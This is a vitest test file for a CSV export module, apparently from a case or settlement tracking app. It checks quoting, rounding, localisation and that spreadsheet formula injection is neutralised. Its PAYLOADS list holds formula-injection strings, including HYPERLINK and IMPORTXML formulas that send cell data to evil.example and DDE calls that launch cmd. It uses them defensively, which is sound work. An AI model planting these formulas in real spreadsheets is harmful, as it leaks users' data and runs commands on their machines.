// CSV for spreadsheets: RFC 4180 quoting, and no formula ever left live in a cell.
import { describe, expect, it } from 'vitest'
import { buildCaseView, csvField, csvSheet, csvText, invisibleTextProblem, isolate, neutralizeCell, parseCaseFile, partyLabel, summarizeCase, toCsv, type CaseFile } from '@/domain'
import { validExamples } from '../../support/examples'
import { wordsFor } from '../../support/words'
import { rawCase } from './helpers'
import { isLive, readCsv } from '../../support/csv'


const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '  @SUM(A1:A9)',
  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
  '-',
  '+',
  '=',
  '@',
  '=1+1\r\n=2+2',
  '"=1+1"',
  'DDE("cmd";"/C calc";"!A0")',
]

describe('csvField and toCsv', () => {
  it.each([
    ['plain', 'plain'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rlf', '"cr\rlf"'],
    ['深圳华信', '深圳华信'],
    ['', ''],
  ])('writes %j as %j', (value, written) => {
    expect(csvField(value)).toBe(written)
  })

  it('ends every record with CRLF and starts with a byte-order mark for Excel', () => {
    expect(toCsv(['a', 'b'], [['1', '2']])).toBe('\uFEFFa,b\r\n1,2\r\n')
  })

  it.each(PAYLOADS)('leaves the payload %j dead, and reads back as the same text (behind an apostrophe when it was live)', (payload) => {
    expect(isLive(neutralizeCell(payload))).toBe(false)
    const [header, row] = readCsv(toCsv(['cell'], [[payload]]))
    expect(header).toEqual(['cell'])
    expect(row).toEqual([isLive(payload) ? `'${payload}` : payload])
  })

  it('leaves ordinary text and numbers as they are', () => {
    for (const value of ['85000.50', '2024-05-03', 'Zhang Wei (seller)', '谅解书', 'a-b', 'x=1']) expect(neutralizeCell(value)).toBe(value)
  })
})

describe("the case's tables", () => {
  const en = wordsFor('en')
  const viewOf = (file: CaseFile) => buildCaseView(file, summarizeCase(file))

  it('lists harbor-tools with amounts as written and in base, one row per part of an offer', () => {
    const harbor = validExamples().find((example) => example.name === 'harbor-tools')!
    const file = parseCaseFile(JSON.parse(harbor.caseText))
    const view = viewOf(file)
    const offers = csvSheet(view, 'offers', en)
    const parts = file.offers.reduce((n, offer) => n + (offer.from === 'seller' ? offer.components.length : 1), 0)
    expect(offers.rows).toHaveLength(parts)
    expect(offers.header[0]).toBe('Offer or demand')
    expect(offers.header).toContain(`Amount in ${file.baseCurrency}`)
    const losses = readCsv(csvText(view, 'losses', en))
    expect(losses).toHaveLength(file.losses.length + 1)
    expect(losses[1]?.[3]).toBe(file.losses.find((loss) => loss.date === losses[1]?.[0])?.amount)
    for (const table of ['losses', 'offers', 'payments', 'costs'] as const) {
      const sheet = csvSheet(view, table, en)
      for (const row of sheet.rows) expect(row).toHaveLength(sheet.header.length)
    }
  })

  it('writes every base amount rounded half-up to the minor units, as plain digits', () => {
    const file = parseCaseFile(rawCase({ losses: [{ description: 'Deposit', category: 'payment', amount: '100000.05', currency: 'CNY' }] }))
    const [, row] = readCsv(csvText(viewOf(file), 'losses', en))
    // 100000.05 / 8 = 12500.00625 → 12500.01
    expect(row?.slice(3, 6)).toEqual(['100000.05', 'CNY', '12500.01'])
  })

  it('names the columns and values in Chinese for a Chinese interface', () => {
    const harbor = validExamples().find((example) => example.name === 'harbor-tools')!
    const sheet = csvSheet(viewOf(parseCaseFile(JSON.parse(harbor.caseText))), 'offers', wordsFor('zh-CN'))
    expect(sheet.header[0]).toBe('报价或要价')
  })

  it('leaves no payload live wherever a user could have typed it', () => {
    let tried = 0
    let live = 0
    // A lone carriage return is an invisible control a case's text may not hold (invisibleText.ts):
    // no user can type that payload into a case, so only the others are tried in one.
    const typable = PAYLOADS.filter((payload) => invisibleTextProblem(payload) === null)
    expect(PAYLOADS.filter((payload) => !typable.includes(payload))).toEqual(['\r=1+1'])
    for (const payload of typable) {
      const file = parseCaseFile(
        rawCase({
          title: payload.trim() === '' ? 'x' : payload,
          parties: [
            { id: 'sam', name: payload.trim() || 'x', role: 'seller' },
            { id: 'dad', name: 'Dan', role: 'family', relation: 'parent' },
          ],
          properties: [{ id: 'h1', ownerId: 'dad', description: payload.trim() || 'x', location: payload, marketValue: '100', currency: 'USD' }],
          losses: [{ description: payload.trim() || 'x', category: 'payment', amount: '100', currency: 'USD', evidence: payload }],
          offers: [
            { from: 'seller', status: 'open', note: payload, extra: { tracker: { label: payload.trim() || 'x' } }, components: [
              { partyId: 'sam', kind: 'cash', amount: '10', currency: 'USD', note: payload },
              { partyId: 'dad', kind: 'mortgage', propertyId: 'h1', amount: '10', currency: 'USD', note: payload },
            ] },
            { from: 'buyer', status: 'open', amount: '90', currency: 'USD', note: payload },
          ],
          payments: [{ amount: '5', currency: 'USD', partyId: 'sam', offerId: 'o1', note: payload }],
          costs: [{ description: payload.trim() || 'x', amount: '5', currency: 'USD' }],
        }),
      )
      for (const locale of ['en', 'zh-CN'] as const)
        for (const table of ['losses', 'offers', 'payments', 'costs'] as const) {
          const text = csvText(viewOf(file), table, wordsFor(locale))
          const cells = readCsv(text).flat()
          tried += 1
          if (cells.some(isLive)) live += 1
          // The payload is still there to read, as text (the losses' evidence holds it as typed).
          if (table === 'losses') expect(text).toContain(csvField(payload))
        }
    }
    expect(tried).toBe(typable.length * 8)
    expect(live).toBe(0)
  })

  it('writes a name as its cell, without the isolates that keep it apart in a sentence on screen', () => {
    const shown = partyLabel({ name: 'محمد', role: 'seller' }, wordsFor('en'))
    expect(shown).toBe(`${isolate('محمد')} (seller)`)
    expect(csvField(shown)).toBe('محمد (seller)')
    const file = parseCaseFile(rawCase({ parties: [{ id: 'sam', name: 'דוד כהן', role: 'seller' }], offers: [{ from: 'seller', status: 'open', components: [{ partyId: 'sam', kind: 'cash', amount: '10', currency: 'USD' }] }] }))
    const text = csvText(viewOf(file), 'offers', en)
    expect(text).toContain('דוד כהן')
    expect(text).not.toMatch(/[\u2066-\u2069]/)
  })
})
